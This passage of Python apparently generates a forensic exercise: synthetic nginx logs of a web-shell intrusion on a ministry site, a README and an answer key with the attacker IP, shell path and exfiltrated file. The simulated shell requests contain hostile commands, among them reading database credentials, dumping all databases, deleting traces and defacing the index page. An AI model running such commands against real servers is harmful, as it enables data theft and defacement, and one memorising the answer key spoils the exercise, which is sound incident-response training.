    if exfil_name.endswith(".zip"):
        pack = f"zip -q -j {exfil_name} {tmp}"
    elif exfil_name.endswith(".sql.gz"):
        pack = f"gzip -c {tmp} > {exfil_name}"
    else:
        pack = f"tar czf {exfil_name} {tmp}"
    commands = [
        ("id", 54), ("whoami", 9), ("uname -a", 103), ("pwd", 40), ("ls -la", rng.randint(900, 2_600)),
        ("ls -la ../../../../", rng.randint(600, 1_200)),
        ("cat ../../../../../config/database.php", rng.randint(700, 1_100)),
        (f"mysqldump -h 127.0.0.1 -u eservices_app -p{db_pass} --all-databases > {tmp}", 0),
        (pack, 0),
        (f"ls -la {exfil_name}", rng.randint(80, 110)),
    ]  # fmt: skip
    first_shell_line = None
    for cmd, size in commands:
        row = log.req(
            t,
            attacker_ip,
            "GET",
            f"{shell_path}?{shell_param}={quote_plus(cmd)}",
            200,
            size,
            "-",
            shell_ua,
        )
        first_shell_line = first_shell_line or row
        t += rng.randint(4, 50) if "mysqldump" not in cmd else rng.randint(40, 180)
    t += rng.randint(10, 90)
    dl_ua = rng.choice(("curl/8.5.0", "Wget/1.21.4", ua2))
    download_at = t
    log.req(
        t,
        attacker_ip,
        "GET",
        exfil_path,
        200,
        exfil_bytes,
        "-",
        dl_ua,
        "HTTP/2.0" if dl_ua == ua2 else "HTTP/1.1",
    )
    t += rng.randint(120, 900)  # the download takes a while; nginx logs it when it ends
    deface = f"echo {DEFACE} | base64 -d > {DOCROOT}/index.html"
    for cmd, size in ((f"rm -f {tmp} {exfil_name}", 0), (deface, 0)):
        log.req(
            t,
            attacker_ip,
            "GET",
            f"{shell_path}?{shell_param}={quote_plus(cmd)}",
            200,
            size,
            "-",
            shell_ua,
        )
        t += rng.randint(5, 30)
    deface_at = t
    log.req(t, attacker_ip, "GET", "/", 200, 63, "-", ua2, "HTTP/2.0")
    # the access log line of the download carries the time it finished
    log.access = [
        (
            e[0] + (rng.randint(60, 110) if e[0] == download_at and e[4] == exfil_path else 0),
            *e[1:],
        )
        for e in log.access
    ]

    # --- nginx housekeeping in error.log ------------------------------------------------------------
    for day in range(2):
        t = day * DAY + rng.randint(0, 59)
        log.err(t, "notice", "signal process started", None)
    # --- render ----------------------------------------------------------------------------------
    access_lines = []
    access_sorted = sorted(log.access, key=lambda e: (e[0], e[1]))
    for ts, _, ip, method, path, proto, status, size, ref, ua in access_sorted:
        if ts >= 2 * DAY:
            continue
        if path == "/" and status == 200 and ts > deface_at:
            size = 63  # the defaced index.html now answers for "/"
        access_lines.append(
            f'{ip} - - [{_stamp_access(first, ts)}] "{method} {path} {proto}" {status} {size} "{ref}" "{ua}"'
        )
    conn = rng.randint(10_000, 90_000)
    error_lines = []
    for ts, _, level, message, request in sorted(log.errors, key=lambda e: (e[0], e[1])):
        if ts >= 2 * DAY:
            continue
        conn += rng.randint(5, 400)
        stamp = _stamp_error(first, ts)
        if request is None and level == "notice":
            pid = error_pid + rng.randint(3000, 9000)
            error_lines.append(f"{stamp} [notice] {pid}#{pid}: {message}")
            continue
        w = rng.choice(workers)
        if request is None:
            error_lines.append(f"{stamp} [{level}] {w}#{w}: *{conn} {message}")
            continue
        ip, method, path, proto, ref = request
        line = (
            f"{stamp} [{level}] {w}#{w}: *{conn} {message}, client: {ip}, server: {host}, "
            f'request: "{method} {path} {proto}"'
        )
        if "FastCGI" in message or "upstream" in message:
            line += f', upstream: "{FPM}"'
        line += f', host: "{host}"'
        if ref != "-":
            line += f', referrer: "{ref}"'
        error_lines.append(line)
    access_log = "\n".join(access_lines) + "\n"
    error_log = "\n".join(error_lines) + "\n"

    first_shell_ts = first_shell_line[0]
    shell_at = datetime(first.year, first.month, first.day, tzinfo=PKT) + timedelta(
        seconds=first_shell_ts
    )
    last = first + timedelta(days=1)
    heading = f"Evidence from the {ministry} public e-services site"
    readme = f"""\
{heading}
{"=" * len(heading)}

Site:          {site}/
Server:        web01 (Ubuntu 22.04 LTS, nginx 1.24, PHP-FPM 8.2, MariaDB 10.6 on the same host)
Document root: {DOCROOT}
Time zone:     Pakistan Standard Time (Asia/Karachi, UTC+05:00); every time in both logs is PKT
               (the access log shows the offset as +0500)
Period:        {first.day} {MONTHS[first.month - 1]} {first.year} 00:00 to {last.day} {MONTHS[last.month - 1]} {last.year} 23:59

Files
-----
access.log   /var/log/nginx/access.log, format "combined":
             log_format combined '$remote_addr - $remote_user [$time_local] '
                                 '"$request" $status $body_bytes_sent '
                                 '"$http_referer" "$http_user_agent"';
             $body_bytes_sent is the size of the response body in bytes; nginx writes each
             line when the response has been sent, so a long download is logged when it ends.
             SHA-256 {hashlib.sha256(access_log.encode()).hexdigest()}
error.log    /var/log/nginx/error.log: nginx errors and the PHP messages passed on by PHP-FPM
             ("FastCGI sent in stderr"), format: date time [level] pid#tid: *connection message
             SHA-256 {hashlib.sha256(error_log.encode()).hexdigest()}
README.txt   this note

Notes from the web team
-----------------------
- The admin area (/admin/) is used only by the ministry's web team from the office network
  {office}.0/24. There is no VPN for it.
- Staff upload pictures and PDF documents for news items through the admin area's media page;
  they are stored under /uploads/. Nothing else should ever be in that folder.
- {monitor_ip} is the NOC's monitoring probe (GET /healthz every five minutes).
- Search-engine crawlers identify themselves in the user agent.
- nginx: server_tokens off; "try_files $uri $uri/ /index.php?$args", so a missing page is
  answered by the application's own "not found" page; a missing .php file gets nginx's 404.

Copied from web01 by the web team for the IT wing's incident review.
"""
    return Case(
        files={"access.log": access_log, "error.log": error_log, "README.txt": readme},
        answers={
            "scanner-ip": scanner_ip,
            "scan-tool": tool,
            "vuln-param": param,
            "attacker2-ip": attacker_ip,
            "shell-path": [shell_path, shell_path.lstrip("/")],
            "shell-time": shell_at.isoformat(),
            "exfil-file": [exfil_path, exfil_path.lstrip("/")],
            "exfil-bytes": exfil_bytes,
        },
        notes={
            "host": host,
            "first_day": first.isoformat(),
            "tool": tool,
            "script": script,
            "param": param,
            "shell_param": shell_param,
            "shell_path": shell_path,
            "exfil_path": exfil_path,
            "scan_requests": n,
            "sqli_requests": len(payloads),
            "sqli_end": sqli_end,
            "login_at": login_at,
            "upload_at": upload_at,
            "office": office,
            "monitor_ip": monitor_ip,
        },
    )
